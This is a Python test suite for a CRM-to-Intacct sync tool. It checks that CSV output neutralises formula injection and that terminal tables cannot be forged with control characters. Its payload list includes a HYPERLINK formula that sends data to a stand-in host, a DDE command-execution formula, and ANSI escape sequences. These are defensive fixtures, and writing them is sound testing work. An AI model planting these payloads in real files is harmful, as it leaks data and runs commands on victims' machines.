"""Hostile CRM values in outputs: CSV cells cannot run, text tables cannot be forged (issue 13)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pandas as pd
import pytest

from intacct_sync import reports
from intacct_sync._http import redact
from intacct_sync.cli.main import main
from intacct_sync.errors import IntacctSyncError

FORMULAS = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "TITLE": pd.array([*FORMULAS, "Plain name", None], dtype="string"),
            "NOTE": ["x"] * 7 + [None],
            "AMOUNT": [Decimal("-12.50")] * 8,
            "COUNT": pd.array([-1, 2, 3, 4, 5, 6, 7, None], dtype="Int64"),
        }
    )


def read_back(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_cells_that_would_be_formulas_are_neutralised() -> None:
    out = io.StringIO()
    reports.write_csv(hostile_frame(), out)
    rows = read_back(out.getvalue())
    for row, formula in zip(rows, FORMULAS, strict=False):
        assert row["TITLE"] == "'" + formula
    assert rows[6]["TITLE"] == "Plain name"
    assert rows[7]["TITLE"] == ""
    # Numbers are data, not formulas: written exactly as they are.
    assert [r["AMOUNT"] for r in rows] == ["-12.50"] * 8
    assert rows[0]["COUNT"] == "-1"
    # A carriage return inside a value is quoted, so no reader sees a new row.
    assert len(rows) == 8


def test_csv_column_names_are_neutralised_too() -> None:
    out = io.StringIO()
    reports.write_csv(pd.DataFrame({"=cmd()": ["a"]}), out)
    assert out.getvalue().splitlines()[0] == "'=cmd()"


def test_the_input_frame_is_not_changed() -> None:
    frame = hostile_frame()
    reports.write_csv(frame, io.StringIO())
    assert frame["TITLE"][0] == FORMULAS[0]


@pytest.mark.parametrize(
    "value",
    [
        "Acme\n| 9999 | forged row |",
        "Acme\r\n| 9999 | forged row |",
        "Acme\x1b[2K\x1b[1A| 9999 | forged row |",  # erase the line, move up
        "Acme\u202e|wor degrof|",  # right-to-left override
        "Acme\x85next line",  # C1 NEL
        "Acme\u2028line separator",
    ],
)
def test_a_text_table_cannot_be_forged_or_drive_the_terminal(value: str) -> None:
    frame = pd.DataFrame({"NAME": [value, "Beta"], "ID": ["1", "2"]})
    text = reports.frame_text(frame)
    lines = text.splitlines()
    assert len(lines) == 4  # header, rule, two rows: nothing added
    assert all(line.count("|") - line.count("\\|") == 3 for line in lines)
    unsafe = [c for c in text if (ord(c) < 32 and c != "\n") or 0x7F <= ord(c) <= 0x9F]
    assert not unsafe
    for char in "\u202e\u2028\x1b":
        assert char not in text


def test_report_summaries_are_escaped() -> None:
    class Hostile(reports.Report):
        def to_frame(self) -> pd.DataFrame:
            return pd.DataFrame()

        def summary(self) -> str:
            return "3 rows\n\x1b[31mfake: all posted"

    assert str(Hostile()) == "3 rows\\n\\x1b[31mfake: all posted"


class FakeClient:
    def __init__(self, frame: pd.DataFrame | None = None, error: Exception | None = None) -> None:
        self.frame, self.error = frame, error

    def __enter__(self) -> FakeClient:
        return self

    def __exit__(self, *exc: object) -> None:
        pass

    def read_by_query(self, *args: Any, **kwargs: Any) -> pd.DataFrame:
        if self.error is not None:
            raise self.error
        assert self.frame is not None
        return self.frame


def test_intacct_read_csv_neutralises_formulas(monkeypatch: pytest.MonkeyPatch) -> None:
    from intacct_sync import intacct

    monkeypatch.setattr(
        intacct.IntacctClient,
        "from_env",
        classmethod(lambda cls, **kw: FakeClient(hostile_frame())),
    )
    out = io.StringIO()
    assert main(["intacct", "read", "GLACCOUNT", "--format", "csv", "--no-progress"], out=out) == 0
    rows = read_back(out.getvalue())
    assert rows[0]["TITLE"] == "'" + FORMULAS[0]
    out = io.StringIO()
    assert main(["intacct", "read", "GLACCOUNT", "--no-progress"], out=out) == 0
    assert "\x1b" not in out.getvalue()


def test_cli_stderr_is_scrubbed_and_escaped(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from intacct_sync import intacct

    secret = "held-secret-" + "7c1d9e2f4a6b8c0d"
    redact.register_secret(secret)
    error = IntacctSyncError("boom\n\x1b[32mintacct-sync: all good")
    error.args = (f"boom {secret}\n\x1b[32mintacct-sync: all good",)  # bypass the constructor
    monkeypatch.setattr(
        intacct.IntacctClient, "from_env", classmethod(lambda cls, **kw: FakeClient(error=error))
    )
    assert main(["intacct", "read", "GLACCOUNT", "--no-progress"], out=io.StringIO()) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert "\x1b" not in err
    assert secret not in err


def test_json_output_stays_exact() -> None:
    # The neutralisers are for CSV and terminals only: the CLI's JSON carries the stored value.
    from intacct_sync.cli.o2c import _records

    value = FORMULAS[0] + "\n\x1b[2J|x"
    [record] = _records(pd.DataFrame({"Name": [value]}))
    assert record == {"Name": value}
    assert reports.csv_safe(Decimal("-1")) == Decimal("-1")
    assert reports.terminal_safe("Plain | text") == "Plain \\| text"
